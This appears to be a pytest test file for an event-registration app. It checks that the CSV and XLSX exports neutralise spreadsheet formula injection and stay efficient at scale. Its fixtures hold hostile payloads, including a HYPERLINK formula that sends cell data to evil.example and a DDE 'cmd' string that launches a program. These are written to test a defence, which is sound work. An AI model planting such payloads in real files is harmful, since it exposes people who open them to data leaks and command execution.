"""Exports of an event's registrations: one row per attendee, no cell ever a formula."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from roadshow.registrations import selfservice
from roadshow.registrations.exports import ExportRow, formula_safe, to_csv, to_xlsx
from tests.fixtures_backoffice_registrations import add_registrations, check_in
from tests.fixtures_pages import log_in

HOSTILE_COMPANY = '=HYPERLINK("http://evil.example/?leak="&A2,"Klick")'
HOSTILE_ATTENDEE = "+SUM(1+1)*cmd|' /C calc'!A0"
HOSTILE_CONTACT = "-2+3"
HOSTILE_AT = "@SUM(A1:A9)"


@pytest.fixture
def hostile_event(db, make_event, make_partner, register_company):
    """One registration with hostile names (two people, one checked in, one later
    cancelled) and a plain one referred by a partner."""
    make_partner(slug="alpentel", name="Alpentel")
    event = make_event(slug="digital-vor-ort-weilheim", capacity=10)
    hostile = register_company(
        event,
        HOSTILE_ATTENDEE,
        "Max Muster",
        company_name=HOSTILE_COMPANY,
        contact_name=HOSTILE_CONTACT,
        contact_email="boss@evil.example",
        contact_phone=HOSTILE_AT,
        newsletter_consent=True,
    )
    registration = hostile.registration
    check_in(registration.attendees[0])
    selfservice.remove_attendee(db.session, registration, registration.attendees[1].id)
    register_company(
        event, "Ada Huber", company_name="Huber GmbH", referral_partner_slug="alpentel"
    )
    db.session.commit()
    return event, registration


def test_csv_for_german_excel_with_no_formulas(client, submit_form, make_user, hostile_event):
    event, registration = hostile_event
    log_in(submit_form, make_user())
    response = client.get(f"/organiser/events/{event.id}/registrations.csv")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="anmeldungen-digital-vor-ort-weilheim.csv"'
    )
    data = response.get_data()
    assert data.startswith(b"\xef\xbb\xbf")  # the BOM: Excel reads UTF-8
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    header, first, second, third = rows
    assert header[:3] == ["Unternehmen", "Ansprechperson", "E-Mail der Ansprechperson"]
    assert len(rows) == 4  # one row per attendee, the cancelled one included
    assert first[0] == "'" + HOSTILE_COMPANY
    assert first[1] == "'" + HOSTILE_CONTACT
    assert first[3] == "'" + HOSTILE_AT
    assert first[4] == "'" + HOSTILE_ATTENDEE
    assert second[4] == "Max Muster"
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
    local = registration.created_at.astimezone(event.zone).strftime("%Y-%m-%d %H:%M")
    assert first[6:10] == ["bestätigt", local, "", "ja"]
    assert second[6] == "storniert" and second[9] == "nein"
    assert first[11:] == ["ja", "nein"]  # newsletter yes, sharing no
    assert third[0] == "Huber GmbH" and third[8] == "Alpentel"


def test_xlsx_cells_hold_text_never_formulas(client, submit_form, make_user, hostile_event):
    event, _registration = hostile_event
    log_in(submit_form, make_user())
    response = client.get(f"/organiser/events/{event.id}/registrations.xlsx")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    assert response.headers["Content-Disposition"] == (
        'attachment; filename="anmeldungen-digital-vor-ort-weilheim.xlsx"'
    )
    data = response.get_data()
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml  # no formula anywhere
    sheet = load_workbook(io.BytesIO(data)).active
    company, contact, phone, attendee = (sheet.cell(2, c) for c in (1, 2, 4, 5))
    assert (company.value, company.data_type) == (HOSTILE_COMPANY, "s")
    assert (contact.value, contact.data_type) == (HOSTILE_CONTACT, "s")
    assert (phone.value, phone.data_type) == (HOSTILE_AT, "s")
    assert (attendee.value, attendee.data_type) == (HOSTILE_ATTENDEE, "s")
    assert sheet.cell(2, 10).value == "ja" and sheet.cell(3, 7).value == "storniert"
    assert isinstance(sheet.cell(2, 8).value, datetime)  # registered at, a real date
    assert sheet.max_row == 4


def row(**values) -> ExportRow:
    now = datetime(2027, 7, 6, 18, tzinfo=UTC)
    fields = {
        "company": "Firma",
        "contact_name": "K",
        "contact_email": "k@firma.example",
        "contact_phone": "",
        "attendee_name": "A",
        "attendee_email": "a@firma.example",
        "status": "bestätigt",
        "registered_at": now,
        "referral_partner": "",
        "checked_in": False,
        "privacy_consent_at": now,
        "newsletter_consent": False,
        "share_with_partners": False,
        **values,
    }
    return ExportRow(**fields)


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_defused(app, start):
    value = f"{start}1+1"
    assert formula_safe(value) == "'" + value
    [_header, parsed] = list(
        csv.reader(io.StringIO(to_csv([row(company=value)]).decode("utf-8-sig")), delimiter=";")
    )
    assert parsed[0] == "'" + value
    cell = load_workbook(io.BytesIO(to_xlsx([row(company=value)], title="x"))).active["A2"]
    # (XML reads a carriage return as a line feed; the cell is text either way)
    assert cell.data_type == "s" and cell.value[1:] == "1+1"
    assert formula_safe("Müller; Söhne") == "Müller; Söhne"


def test_exports_need_the_same_queries_for_10_and_1000_registrations(
    client, submit_form, make_user, make_event, make_partner, count_queries
):
    log_in(submit_form, make_user())
    partner = make_partner()
    counts = {}
    for size in (10, 1000):
        event = make_event(capacity=10_000)
        add_registrations(event, size, partner=partner)
        base = f"/organiser/events/{event.id}/registrations"
        for kind in ("csv", "xlsx"):
            with count_queries() as queries:
                assert client.get(f"{base}.{kind}").status_code == 200
            counts[(size, kind)] = len(queries)
    print(f"\nexports, queries: {counts}")
    assert counts[(10, "csv")] == counts[(1000, "csv")]
    assert counts[(10, "xlsx")] == counts[(1000, "xlsx")]
